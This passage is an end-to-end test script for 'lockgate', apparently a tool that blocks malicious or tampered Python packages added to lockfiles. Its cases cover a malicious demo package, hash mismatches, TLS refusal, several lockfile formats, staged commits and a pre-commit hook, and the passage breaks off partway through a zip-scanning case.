#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""End-to-end tests of the lockgate binary.

    python3 tests/e2e/run_e2e.py --bin build/cmd/lockgate            # all cases
    python3 tests/e2e/run_e2e.py --bin build/cmd/lockgate --case NAME
    python3 tests/e2e/run_e2e.py --list

Each case runs in a fresh temp dir (own git repo, own nginx index on a
loopback port, own --cache-dir) and asserts lockgate's exit code and a subset
of its JSON report. The last line printed is "N passed, M failed".
Exit status: 0 all passed, 1 a failure, 77 every selected case was skipped.
"""

import argparse
import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import traceback

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lgindex as L  # noqa: E402
import faultserver  # noqa: E402

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CORPUS_INDEX = os.path.join(os.path.dirname(REPO_ROOT), "shared", "corpus",
                            "malicious-dev", "index.tsv")
RUN_TIMEOUT = 60
BLOCKING = ("high", "critical")

# Variables that would steer the binary away from what a case sets up.
SCRUB_ENV = ("SSL_CERT_FILE", "SSL_CERT_DIR", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE",
             "http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY",
             "all_proxy", "ALL_PROXY", "GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE",
             "XDG_CACHE_HOME", "XDG_CONFIG_HOME")


class Fail(Exception):
    pass


class Skip(Exception):
    pass


# ------------------------------------------------------------ matching ----

ANY = object()


class OneOf:
    def __init__(self, *values):
        self.values = values

    def __repr__(self):
        return "OneOf%r" % (self.values,)


def _match(actual, expected, path, problems):
    """Records in problems where actual does not contain expected."""
    if expected is ANY:
        return
    if isinstance(expected, OneOf):
        if actual not in expected.values:
            problems.append("%s: got %s, expected one of %s" % (
                path, json.dumps(actual), json.dumps(list(expected.values))))
        return
    if isinstance(expected, dict):
        if not isinstance(actual, dict):
            problems.append("%s: got %s, expected an object" % (path, json.dumps(actual)))
            return
        for k, v in expected.items():
            if k not in actual:
                problems.append("%s.%s: missing (expected %s)" % (path, k, _show(v)))
            else:
                _match(actual[k], v, "%s.%s" % (path, k), problems)
        return
    if isinstance(expected, list):
        if not isinstance(actual, list):
            problems.append("%s: got %s, expected an array" % (path, json.dumps(actual)))
            return
        if not expected and actual:
            problems.append("%s: expected [] but got %d element(s)" % (path, len(actual)))
            return
        used = set()
        for i, e in enumerate(expected):
            hit = None
            for j, a in enumerate(actual):
                if j not in used and not _probe(a, e):
                    hit = j
                    break
            if hit is None:
                problems.append("%s: no element matches %s" % (path, _show(e)))
            else:
                used.add(hit)
        return
    if actual != expected or type(actual) is not type(expected):
        problems.append("%s: got %s, expected %s" % (path, json.dumps(actual), _show(expected)))


def _probe(actual, expected):
    p = []
    _match(actual, expected, "", p)
    return p


def _show(v):
    def enc(x):
        if x is ANY:
            return "<any>"
        if isinstance(x, OneOf):
            return "<one of %s>" % "|".join(json.dumps(y) for y in x.values)
        if isinstance(x, dict):
            return {k: enc(y) for k, y in x.items()}
        if isinstance(x, list):
            return [enc(y) for y in x]
        return x
    return json.dumps(enc(v), sort_keys=True)


# ---------------------------------------------------------- case state ----

class Result:
    def __init__(self, argv, rc, stdout, stderr, secs):
        self.argv, self.rc, self.stdout, self.stderr, self.secs = argv, rc, stdout, stderr, secs
        self._json = None

    @property
    def json(self):
        if self._json is None:
            try:
                self._json = json.loads(self.stdout)
            except ValueError as e:
                raise Fail("stdout is not JSON (%s)\n%s" % (e, self.describe()))
        return self._json

    def describe(self):
        out = ["command: " + " ".join(self.argv),
               "exit code: %s (%.2fs)" % (self.rc, self.secs)]
        so = self.stdout
        try:
            so = json.dumps(json.loads(so), indent=2, sort_keys=True)
        except ValueError:
            pass
        out.append("stdout:\n" + _indent(_clip(so, 8000)))
        if self.stderr:
            out.append("stderr:\n" + _indent(_clip(self.stderr, 3000)))
        return "\n".join(out)


def _clip(s, n):
    return s if len(s) <= n else s[:n] + "\n... (%d more bytes)" % (len(s) - n)


def _indent(s):
    return "\n".join("    " + line for line in s.splitlines()) or "    (empty)"


class Case:
    def __init__(self, name, binary, ca, tmp):
        self.name, self.bin, self.ca, self.tmp = name, binary, ca, tmp
        self.home = self.mk("home")
        self.cache = self.mk("cache")
        self._servers = []
        self._repo_n = 0
        self._runs = 0

    def mk(self, *parts):
        p = os.path.join(self.tmp, *parts)
        os.makedirs(p, exist_ok=True)
        return p

    def close(self):
        for s in self._servers:
            s.stop()

    # -- fixtures
    def server(self, files_conf=""):
        s = L.IndexServer(self.mk("index%d" % len(self._servers)), self.ca,
                          files_conf=files_conf)
        self._servers.append(s)
        return s.start()

    def fault_server(self):
        """A faultserver.FaultServer on loopback, stopped with the case."""
        fs = faultserver.FaultServer(self.ca).__enter__()
        self._servers.append(fs)
        return fs

    def repo(self, *commits):
        """A repo with one commit per {path: text} dict, in order."""
        self._repo_n += 1
        r = L.GitRepo(os.path.join(self.tmp, "repo%d" % self._repo_n), env=self.env())
        for i, files in enumerate(commits):
            r.commit(files, "commit %d" % (i + 1))
        return r

    # -- running lockgate
    def env(self, extra=None):
        e = {k: v for k, v in os.environ.items() if k not in SCRUB_ENV}
        e.update(HOME=self.home, NO_PROXY="*", no_proxy="*", GIT_CONFIG_NOSYSTEM="1",
                 LC_ALL="C.UTF-8")
        e.update(extra or {})
        return e

    def run(self, *args, env=None, cwd=None):
        argv = [self.bin] + [str(a) for a in args]
        t0 = time.monotonic()
        try:
            p = subprocess.run(argv, cwd=cwd or self.tmp, env=self.env(env),
                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=RUN_TIMEOUT)
        except subprocess.TimeoutExpired as e:
            raise Fail("timed out after %ds: %s\nstderr:\n%s" % (
                RUN_TIMEOUT, " ".join(argv), _indent((e.stderr or b"").decode(errors="replace"))))
        return Result(argv, p.returncode, p.stdout.decode(errors="replace"),
                      p.stderr.decode(errors="replace"), time.monotonic() - t0)

    def check_argv(self, repo, *args, index_url, ca=True, fmt="json",
                   base="HEAD~1", head="HEAD"):
        argv = ["check", "--repo", repo.path]
        if base:
            argv += ["--base", base]
        if head == "--staged":
            argv += ["--staged"]
        elif head:
            argv += ["--head", head]
        self._runs += 1  # a fresh cache for every run
        argv += ["--index-url", index_url, "--cache-dir", self.mk("cache", str(self._runs))]
        if ca:
            argv += ["--ca-bundle", self.ca.ca_pem]
        if fmt:
            argv += ["--format", fmt]
        return argv + list(args)

    def check(self, repo, *args, index_url, ca=True, fmt="json", env=None,
              base="HEAD~1", head="HEAD"):
        return self.run(*self.check_argv(repo, *args, index_url=index_url, ca=ca,
                                         fmt=fmt, base=base, head=head), env=env)

    # -- assertions
    def expect(self, res, rc=None, subset=None, no_findings=None, note=""):
        """rc: expected exit code (int or set); subset: JSON subset;
        no_findings: list of dicts no finding may match."""
        problems = []
        if rc is not None:
            ok = res.rc in rc if isinstance(rc, (set, tuple)) else res.rc == rc
            if not ok:
                problems.append("exit code: got %s, expected %s" % (res.rc, rc))
        if subset is not None or no_findings:
            try:
                doc = res.json
            except Fail:
                doc = None
                problems.append("stdout is not valid JSON")
            if doc is not None and subset is not None:
                _match(doc, subset, "$", problems)
            if doc is not None and no_findings:
                for bad in no_findings:
                    for f in doc.get("findings") or []:
                        if not _probe(f, bad):
                            problems.append("$.findings: unexpected %s" % json.dumps(f, sort_keys=True))
        if problems:
            raise Fail("%s\n  - %s\n%s" % (note or "mismatch", "\n  - ".join(problems),
                                           res.describe()))

    def expect_requested(self, srv, fragment, present=True):
        hits = srv.requested(fragment)
        if bool(hits) != present:
            raise Fail("access log: %s request with %r; log was:\n%s" % (
                "expected a" if present else "unexpected", fragment,
                _indent("\n".join("%s %s %d" % (r.method, r.path, r.status)
                                  for r in srv.requests()) or "(no requests)")))

    def expect_no_requests(self, srv):
        if srv.requests():
            self.expect_requested(srv, "", present=False)


CASES = {}


def case(fn):
    CASES[fn.__name__[len("case_"):]] = fn
    return fn


def reqs(*lines):
    return "".join(line + "\n" for line in lines)


def pin(art, name, version):
    return "%s==%s --hash=sha256:%s" % (name, version, art.sha256)


BENIGN = "benign-pkg"


def benign(version="1.0"):
    return L.sdist(BENIGN, version)


def finding(rule, **kw):
    d = {"rule": rule}
    d.update(kw)
    return d


# -------------------------------------------------------------- cases ----

@case
def case_malicious_added(t):
    """The demo package is added on line 3: blocked by its setup.py."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    first = reqs("# pinned deps", pin(b, BENIGN, "1.0"))
    repo = t.repo({"requirements.txt": first},
                  {"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    exec_line = L.line_of(L.demo_setup_py(), "exec(")
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "schema": 1,
        "tool": {"name": "lockgate", "version": "0.1.0"},
        "verdict": "block",
        "changes": [{"lockfile": "requirements.txt", "line": 3, "name": "demo-pkg",
                     "old": None, "new": "1.0", "kind": "added"}],
        "artifacts": [{"package": "demo-pkg", "version": "1.0", "file": m.filename,
                       "sha256": m.sha256, "verdict": "block"}],
        "findings": [
            finding("exec.decode-exec", severity="critical", package="demo-pkg",
                    version="1.0", file=m.filename, path="demo_pkg-1.0/setup.py",
                    line=exec_line, lockfile="requirements.txt", lockfile_line=3),
            finding("install.cmdclass-override", severity="medium", package="demo-pkg",
                    path="demo_pkg-1.0/setup.py", lockfile_line=3),
        ],
        "errors": [],
    })
    if len(res.json["changes"]) != 1:
        raise Fail("expected exactly one change (benign-pkg is unchanged)\n" + res.describe())
    t.expect_requested(srv, "/pypi/demo-pkg/1.0/json")
    t.expect_requested(srv, "/files/" + m.filename)
    t.expect_requested(srv, BENIGN, present=False)


@case
def case_text_format(t):
    """Text output (the demo's format) names the blocking rule and package."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, fmt="text")
    t.expect(res, rc=1)
    for word in ("exec.decode-exec", "demo-pkg", "setup.py"):
        if word not in res.stdout:
            raise Fail("text report lacks %r\n%s" % (word, res.describe()))


@case
def case_output_file(t):
    """--output FILE receives the JSON report."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(m, "demo-pkg", "1.0") + "\n"})
    out = os.path.join(t.tmp, "report.json")
    res = t.check(repo, "--output", out, index_url=srv.index_url)
    t.expect(res, rc=1)
    try:
        with open(out) as f:
            doc = json.load(f)
    except (OSError, ValueError) as e:
        raise Fail("--output file unreadable as JSON: %s\n%s" % (e, res.describe()))
    problems = []
    _match(doc, {"schema": 1, "verdict": "block",
                 "findings": [finding("exec.decode-exec", package="demo-pkg")]}, "$", problems)
    if problems:
        raise Fail("report file: " + "; ".join(problems) + "\n" + json.dumps(doc, indent=2))


@case
def case_benign_added(t):
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": "# nothing yet\n"},
                  {"requirements.txt": "# nothing yet\n" + pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "added", "old": None, "new": "1.0", "line": 2}],
        "artifacts": [{"package": BENIGN, "version": "1.0", "file": b.filename,
                       "sha256": b.sha256, "verdict": "pass"}],
        "errors": [],
    }, no_findings=[{"severity": OneOf(*BLOCKING)}])


@case
def case_unhashed(t):
    """A pin without --hash: the sdist is fetched (not the wheel) and lock.unhashed reported."""
    srv = t.server()
    s, w = benign(), L.wheel(BENIGN, "1.0")
    srv.add(BENIGN, "1.0", [w, s])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "benign-pkg==1.0\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": BENIGN, "file": s.filename, "sha256": s.sha256}],
        "findings": [finding("lock.unhashed", severity="medium", package=BENIGN,
                             lockfile_line=1)],
    }, no_findings=[{"severity": OneOf(*BLOCKING)}])
    t.expect_requested(srv, "/files/" + w.filename, present=False)


@case
def case_ca_from_env(t):
    """SSL_CERT_FILE stands in for --ca-bundle."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, ca=False, env={"SSL_CERT_FILE": t.ca.ca_pem})
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []})


@case
def case_tls_untrusted(t):
    """A server certificate from an unknown CA is never accepted."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, ca=False)
    t.expect(res, rc=2, subset={"verdict": "incomplete", "errors": [{"message": ANY}]})
    t.expect_requested(srv, "/pypi/", present=False)


@case
def case_http_index_refused(t):
    """A plain-http index URL is never used: incomplete, nothing sent."""
    srv = t.server()  # speaks TLS only; a plaintext request would still be logged (400)
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url="http://127.0.0.1:%d/pypi" % srv.port)
    # Refusing it up front as a usage error (3) would be as good as incomplete (2).
    t.expect(res, rc={2, 3}, subset={"verdict": "incomplete"} if res.rc == 2 else None)
    t.expect_no_requests(srv)


@case
def case_upgraded(t):
    srv = t.server()
    b1, b2 = benign("1.0"), benign("1.1")
    srv.add(BENIGN, "1.0", [b1])
    srv.add(BENIGN, "1.1", [b2])
    repo = t.repo({"requirements.txt": pin(b1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(b2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "upgraded", "old": "1.0", "new": "1.1",
                     "lockfile": "requirements.txt", "line": 1}],
        "artifacts": [{"package": BENIGN, "version": "1.1", "sha256": b2.sha256}],
    })
    t.expect_requested(srv, "/pypi/benign-pkg/1.1/json")
    t.expect_requested(srv, "/pypi/benign-pkg/1.0/", present=False)


@case
def case_downgraded(t):
    srv = t.server()
    b1, b2 = benign("1.0"), benign("1.1")
    srv.add(BENIGN, "1.0", [b1])
    repo = t.repo({"requirements.txt": pin(b2, BENIGN, "1.1") + "\n"},
                  {"requirements.txt": pin(b1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"changes": [{"name": BENIGN, "kind": "downgraded",
                                             "old": "1.1", "new": "1.0"}]})


@case
def case_removed(t):
    """A removed package is listed but never requested."""
    srv = t.server()
    b, g, f = benign(), L.sdist("gone-pkg", "2.0"), L.sdist("fresh-pkg", "1.0")
    for name, ver, a in ((BENIGN, "1.0", b), ("gone-pkg", "2.0", g), ("fresh-pkg", "1.0", f)):
        srv.add(name, ver, [a])
    repo = t.repo({"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(g, "gone-pkg", "2.0"))},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(f, "fresh-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": "gone-pkg", "kind": "removed", "old": "2.0", "new": None,
                     "lockfile": "requirements.txt", "line": 2},  # its line in the old file
                    {"name": "fresh-pkg", "kind": "added", "new": "1.0"}],
    })
    if any(a.get("package") == "gone-pkg" for a in res.json.get("artifacts") or []):
        raise Fail("removed package has an artifact\n" + res.describe())
    t.expect_requested(srv, "/pypi/fresh-pkg/1.0/json")
    t.expect_requested(srv, "gone", present=False)


@case
def case_hash_mismatch_index_digest(t):
    """Lock hash = the real file's hash, but the index JSON claims another digest."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b], digest_override={b.filename: L.sha256_hex(b"not the file")})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("hash.mismatch", severity="critical", package=BENIGN,
                             version="1.0", lockfile_line=1)],
    })


@case
def case_hash_mismatch_served_bytes(t):
    """Index JSON and lock agree, but the bytes served are a different archive."""
    srv = t.server()
    b = benign()
    swapped = L.sdist(BENIGN, "1.0", module="# swapped\n").data
    srv.add(BENIGN, "1.0", [b], serve_override={b.filename: swapped})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("hash.mismatch", severity="critical", package=BENIGN,
                             version="1.0", file=b.filename)],
    })
    t.expect_requested(srv, "/files/" + b.filename)


@case
def case_index_unreachable(t):
    b = benign()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url="https://127.0.0.1:%d/pypi" % L.free_port())
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})


@case
def case_index_404(t):
    srv = t.server()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "missing-pkg==1.0\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": "missing-pkg", "message": ANY}]})
    t.expect_requested(srv, "/pypi/missing-pkg/1.0/json")


@case
def case_name_canonical(t):
    """`Benign_Pkg==1.0` is looked up at /pypi/benign-pkg/1.0/json."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": "Benign_Pkg==1.0 --hash=sha256:%s\n" % b.sha256})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []})
    t.expect_requested(srv, "/pypi/benign-pkg/1.0/json")


@case
def case_relative_file_url(t):
    """File URLs relative to the JSON document are resolved against it."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b], relative_urls=True)
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256}]})
    t.expect_requested(srv, "/files/" + b.filename)


@case
def case_hash_continuation_lines(t):
    """Hashes on backslash-continued lines, two files listed: both fetched."""
    srv = t.server()
    s, w = benign(), L.wheel(BENIGN, "1.0")
    srv.add(BENIGN, "1.0", [s, w])
    text = ("# via pip-compile\n"
            "benign-pkg==1.0 \\\n"
            "    --hash=sha256:%s \\\n"
            "    --hash=sha256:%s\n" % (s.sha256, w.sha256))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": text})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "added", "line": 2}],
        "artifacts": [{"file": s.filename, "sha256": s.sha256},
                      {"file": w.filename, "sha256": w.sha256}],
    })


@case
def case_other_lockfiles(t):
    """requirements-dev.txt and requirements/*.txt in subdirectories count too."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"svc/requirements/base.txt": "# empty\n"},
                  {"svc/requirements/base.txt": "# empty\n" + pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "changes": [{"lockfile": "svc/requirements/base.txt", "line": 2, "name": "demo-pkg"}],
        "findings": [finding("exec.decode-exec", lockfile="svc/requirements/base.txt",
                             lockfile_line=2)],
    })


def uv_lock(*pkgs):
    """uv.lock text for (art, name, version) entries from the default index."""
    out = ["version = 1", "revision = 3", 'requires-python = ">=3.9"', ""]
    for art, name, version in pkgs:
        out += ["[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                'source = { registry = "https://pypi.org/simple" }',
                'sdist = { url = "https://files.invalid/%s", hash = "sha256:%s", '
                'size = 1 }' % (art.filename, art.sha256), ""]
    return "\n".join(out)


def pdm_lock(*pkgs):
    out = ["[metadata]", 'lock_version = "4.5.0"', 'content_hash = "sha256:00"', ""]
    for art, name, version in pkgs:
        out += ["[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                'files = [', '    {file = "%s", hash = "sha256:%s"},' % (
                    art.filename, art.sha256), "]", ""]
    return "\n".join(out)


@case
def case_uv_lock_added(t):
    """A package added to uv.lock is fetched by its locked hash and blocked."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"uv.lock": uv_lock((b, BENIGN, "1.0"))},
                  {"uv.lock": uv_lock((b, BENIGN, "1.0"), (m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"lockfile": "uv.lock", "line": 11, "name": "demo-pkg",
                     "old": None, "new": "1.0", "kind": "added"}],
        "findings": [finding("exec.decode-exec", lockfile="uv.lock", lockfile_line=11)],
    })
    t.expect_requested(srv, BENIGN, present=False)


@case
def case_lock_migration(t):
    """pdm.lock replaced by uv.lock with the same packages and hashes: no
    change, no request."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"pdm.lock": pdm_lock((b, BENIGN, "1.0"))},
                  {"pdm.lock": None, "uv.lock": uv_lock((b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "changes": [], "errors": []})
    t.expect_no_requests(srv)


@case
def case_source_changed(t):
    """The same pin moves from a private index to the default one: a
    source-changed change (dependency confusion), and the file is checked."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    old = reqs("--index-url https://corp.invalid/simple", pin(b, BENIGN, "1.0"))
    repo = t.repo({"requirements.txt": old},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "changes": [{"name": BENIGN, "kind": "source-changed", "old": "1.0",
                     "new": "1.0"}],
        "artifacts": [{"package": BENIGN, "verdict": "pass"}],
    })


@case
def case_diff_command(t):
    """`lockgate diff` lists the changes of every lock format and asks the
    network nothing."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    repo = t.repo({"requirements.txt": reqs(pin(b, BENIGN, "1.0")),
                   "poetry.lock": '[[package]]\nname = "a"\nversion = "1.0"\n'},
                  {"requirements.txt": reqs(pin(b, BENIGN, "2.0")),
                   "poetry.lock": '[[package]]\nname = "a"\nversion = "0.9"\n',
                   "uv.lock": uv_lock((m, "demo-pkg", "1.0"))})
    res = t.run("diff", "--repo", repo.path, "--base", "HEAD~1", "--head", "HEAD",
                "--format", "json")
    if res.rc != 0:
        raise Fail("expected exit 0\n" + res.describe())
    got = sorted((c["name"], c["kind"], c["lockfile"]) for c in res.json["changes"])
    want = [("a", "downgraded", "poetry.lock"),
            ("benign-pkg", "upgraded", "requirements.txt"),
            ("demo-pkg", "added", "uv.lock")]
    if got != want:
        raise Fail("changes %r, expected %r\n%s" % (got, want, res.describe()))
    t.expect_no_requests(srv)


@case
def case_staged(t):
    """--staged compares HEAD with the index; the commit itself has no change."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, base=None, head="--staged")
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": "demo-pkg", "kind": "added", "line": 2}],
        "findings": [finding("exec.decode-exec", package="demo-pkg", lockfile_line=2)],
    })


@case
def case_pre_commit_hook(t):
    """hooks/pre-commit refuses a commit that adds a blocked package, and
    lets a commit that touches no requirements file through untouched."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    hook = os.path.join(repo.path, ".git", "hooks", "pre-commit")
    shutil.copy(os.path.join(REPO_ROOT, "hooks", "pre-commit"), hook)
    os.chmod(hook, 0o755)
    env = dict(os.environ, LOCKGATE=t.bin, LOCKGATE_FLAGS=" ".join([
        "--index-url", srv.index_url, "--ca-bundle", t.ca.ca_pem,
        "--cache-dir", t.mk("hook-cache"), "--format", "text"]))
    head = repo.git("rev-parse", "HEAD").strip()

    def commit():
        return subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid",
             "commit", "-q", "-m", "x"], cwd=repo.path, env=env,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)

    repo.stage({"README": "docs only\n"})
    p = commit()
    if p.returncode != 0:
        raise Fail("a commit without requirement changes was refused:\n" + p.stdout)
    t.expect_no_requests(srv)
    head = repo.git("rev-parse", "HEAD").strip()
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    p = commit()
    if p.returncode == 0 or repo.git("rev-parse", "HEAD").strip() != head:
        raise Fail("the hook let a blocked package be committed:\n" + p.stdout)
    if "exec.decode-exec" not in p.stdout:
        raise Fail("the refused commit did not show the finding:\n" + p.stdout)


@case
def case_staged_index_file(t):
    """GIT_INDEX_FILE points --staged at an alternate index."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    alt = os.path.join(t.tmp, "alt-index")
    repo.git("read-tree", "HEAD", env={"GIT_INDEX_FILE": alt})
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"}, index_file=alt)
    repo.write({"requirements.txt": first})  # work tree and default index: unchanged
    plain = t.check(repo, index_url=srv.index_url, base=None, head="--staged")
    t.expect(plain, rc=0, subset={"verdict": "pass", "changes": []},
             note="default index has no change")
    t.expect_no_requests(srv)
    res = t.check(repo, index_url=srv.index_url, base=None, head="--staged",
                  env={"GIT_INDEX_FILE": alt})
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": "demo-pkg", "kind": "added"}],
        "findings": [finding("exec.decode-exec", package="demo-pkg")],
    }, note="GIT_INDEX_FILE=%s" % alt)


@case
def case_unchanged_lockfile(t):
    """Only README changes: no change, no request at all."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    r = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": r, "README": "one\n"},
                  {"requirements.txt": r, "README": "two\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "changes": [], "artifacts": [],
                                "findings": [], "errors": []})
    t.expect_no_requests(srv)


@case
def case_unpinned(t):
    """`requests>=2`: lock.unpinned (medium, not blocking), never requested."""
    srv = t.server()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "requests>=2\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": "requests", "kind": "added", "line": 1}],
        "findings": [finding("lock.unpinned", severity="medium", package="requests",
                             lockfile="requirements.txt", lockfile_line=1)],
    })
    t.expect_no_requests(srv)


def _wheel_case(t, name, version, pth, extra=None):
    srv = t.server()
    w = L.wheel(name, version, pth=pth, extra=extra)
    srv.add(name, version, [w])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(w, name, version) + "\n"})
    return w, t.check(repo, index_url=srv.index_url)


@case
def case_wheel_pth_malicious(t):
    w, res = _wheel_case(t, "pthdemo", "1.0", {"pthdemo_init.pth": L.MALICIOUS_PTH})
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": "pthdemo", "file": w.filename, "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", severity=OneOf(*BLOCKING),
                             package="pthdemo", file=w.filename, path="pthdemo_init.pth",
                             line=1)],
    })


@case
def case_wheel_pth_distutils(t):
    """setuptools' own distutils-precedence.pth is an allowed template."""
    _, res = _wheel_case(t, "setuptools", "69.0.3",
                         {"distutils-precedence.pth": L.DISTUTILS_PRECEDENCE_PTH},
                         extra={"_distutils_hack/__init__.py":
                                "def add_shim():\n    return None\n"})
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"severity": OneOf(*BLOCKING)}])


@case
def case_scan_zip_named_targz(t):
    """`scan` detects a zip by magic even when it is named .tar.gz."""
    a = L.demo_sdist(container="zip", filename="demo_pkg-1.0.tar.gz")
    path = os.path.join(t.tmp, a.filename)
    with open(path, "wb") as f:
        f.write(a.data)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [],
        "artifacts": [{"sha256": a.sha256, "verdict": "block"}],
